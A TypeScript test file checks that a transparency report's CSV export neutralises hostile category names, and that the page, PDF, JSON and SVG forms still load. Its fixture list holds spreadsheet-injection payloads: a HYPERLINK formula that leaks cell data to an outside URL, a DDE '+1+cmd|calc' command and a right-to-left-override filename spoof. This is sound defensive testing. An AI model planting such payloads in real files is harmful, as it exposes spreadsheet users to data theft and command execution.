/** A report's file for spreadsheets, as anybody fetches it from a real Kith: its columns, and what a platform's names may do to it. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { openRecords } from '../../../stores.ts';
import { type Running, runKith } from '../../../testing/kith.ts';
import { keyOf } from '../../counts/index.ts';
import { setProgress } from '../../counts/progress.ts';
import { publishReport } from '../publish.ts';
import { dayIn } from '../testing/counted.ts';
import { REPORT_COLUMNS } from './csv.ts';

const HOSTILE = [
  '=HYPERLINK("https://example.org/?x="&A1)',
  '+1+cmd|calc',
  '-2',
  '@SUM(A1:A9)',
  ' =1+1',
  '\u200b=1+1',
  '\t=1',
  'a\nb,"c"\r\n=1',
  'a\u202etxt.exe',
  '"',
  'constructor',
  'Dog photos, cats; birds',
];
const PERIOD = {
  from: '2026-01',
  to: '2026-02',
  sha256: null,
  changes: '',
  by: 'operator',
  at_ms: 1_790_000_000_000,
} as const;

let kith: Running;
let id: string;
before(async () => {
  kith = await runKith();
  const { records, close } = await openRecords(kith.config);
  const rows = HOSTILE.map((category, i) => ({
    ...{ day: dayIn('2026-01-11'), name: 'reports_received', key: keyOf([category, 'user']), n: 10 + i },
  }));
  // one small number, so that something is withheld
  const small = {
    day: dayIn('2026-02-11'),
    name: 'reports_received',
    key: keyOf(['Dog photos, cats; birds', 'user']),
    n: 2,
  };
  const more = { ...small, day: dayIn('2026-02-12'), key: keyOf(['constructor', 'user']), n: 9 };
  await records
    .insertInto('daily_count')
    .values([...rows, small, more])
    .execute();
  await setProgress(records, 'finished_through', dayIn('2026-02-28'));
  id = await publishReport(records, PERIOD);
  await close();
});
after(() => kith?.end());

const csv = async (lang: string) => (await fetch(`${kith.url}/transparency/${id}.csv?lang=${lang}`)).text();

describe('the file of a report for spreadsheets', () => {
  it('has one line a number, in columns whose names and order stay', async () => {
    const text = await csv('en');
    assert.equal(
      text.split('\r\n')[0],
      '"report","edition","published","statistic","title","by","key","name","month","count","withheld"',
    );
    const lines: Record<string, string>[] = parse(text, { columns: true });
    assert.deepEqual(Object.keys(lines[0] ?? {}), [...REPORT_COLUMNS]);
    const of = (statistic: string, by: string, key: string, month: string) =>
      lines.filter((l) => l.statistic === statistic && l.by === by && l.key === key && l.month === month);
    const all = HOSTILE.reduce((sum, _, i) => sum + 10 + i, 0) + 11;
    assert.deepEqual(
      of('reports', '', '', '').map(({ count, withheld, report }) => [count, withheld, report]),
      [[String(all), 'no', id]],
    );
    assert.deepEqual(
      of('reports', 'category', 'Dog photos, cats; birds', '2026-02').map(({ count, withheld }) => [count, withheld]),
      [['', 'yes']],
    );
    for (const { count, withheld } of lines) assert.equal(count === '', withheld === 'yes');
    // Welsh has other words in the same columns, and the same numbers
    const welsh: Record<string, string>[] = parse(await csv('cy'), { columns: true });
    assert.deepEqual(
      welsh.map(({ statistic, by, key, month, count }) => [statistic, by, key, month, count]),
      lines.map(({ statistic, by, key, month, count }) => [statistic, by, key, month, count]),
    );
  });

  it('has nothing that a spreadsheet takes for a formula, breaks a line or turns the writing, whatever a category is called', async () => {
    const text = await csv('en');
    const cells: string[][] = parse(text);
    assert.ok(cells.every((line) => line.length === REPORT_COLUMNS.length));
    // one line a number: no name made another
    assert.equal(text.split('\r\n').length - 1, cells.length);
    for (const cell of cells.flat()) {
      assert.doesNotMatch(cell, /^[\s\p{Cf}]*[=+\-@]/u, JSON.stringify(cell));
      assert.doesNotMatch(cell, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u, JSON.stringify(cell));
    }
    const keys = new Set(cells.filter((line) => line[5] === 'category').map((line) => line[6]));
    assert.equal(keys.size, HOSTILE.length, 'none is lost, and no two became one');
  });

  it('is beside a page, a PDF and JSON of the same report that hold such names, too', async () => {
    const page = await fetch(`${kith.url}/transparency/${id}?lang=en`);
    assert.equal(page.status, 200);
    const html = await page.text();
    assert.ok(html.includes('a[U+202E]txt.exe') && !html.includes('\u202e'));
    for (const form of ['pdf', 'json', 'svg']) {
      const path = form === 'svg' ? `/transparency/${id}/reports.svg` : `/transparency/${id}.${form}`;
      assert.equal((await fetch(kith.url + path)).status, 200, form);
    }
  });
});
